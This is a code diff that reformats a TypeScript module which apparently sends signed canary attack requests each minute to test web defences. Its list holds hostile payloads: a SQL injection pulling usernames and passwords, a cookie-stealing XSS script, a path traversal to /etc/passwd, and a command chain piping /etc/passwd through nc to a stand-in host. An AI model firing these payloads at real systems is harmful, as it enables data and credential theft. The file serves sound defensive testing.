@@ -12,8 +12,11 @@ export interface CanaryAttack {
 
 /** One of them is sent each minute; several, so that a rule for one of them cannot stand for all. */
 export const canaryAttacks: readonly CanaryAttack[] = [
-  { id: 'sqli-union', target: "/?canary=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20" },
-  { id: 'xss-script', target: '/?canary=%3Cscript%3Edocument.location=%27//x.invalid/%27%2Bdocument.cookie%3C/script%3E' },
+  { id: 'sqli-union', target: '/?canary=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20' },
+  {
+    id: 'xss-script',
+    target: '/?canary=%3Cscript%3Edocument.location=%27//x.invalid/%27%2Bdocument.cookie%3C/script%3E',
+  },
   { id: 'path-climb', target: '/?canary=../../../../../../etc/passwd' },
   { id: 'command-chain', target: '/?canary=%3Bcat%20/etc/passwd%7Cnc%20x.invalid%2080' },
 ]
@@ -81,7 +84,12 @@ async function sendOne(options: CanaryOptions): Promise<void> {
   const attack = pick(canaryAttacks, options.random)
   const key = options.key()
   if (target === undefined || attack === undefined || key === null) return
-  const facts = { seconds: options.clock.now() / 1000, attack: attack.id, method: 'GET', target: attack.target }
+  const facts = {
+    seconds: options.clock.now() / 1000,
+    attack: attack.id,
+    method: 'GET',
+    target: attack.target,
+  }
   await sendCanary(target, signCanary(key, facts), attack)
 }
 
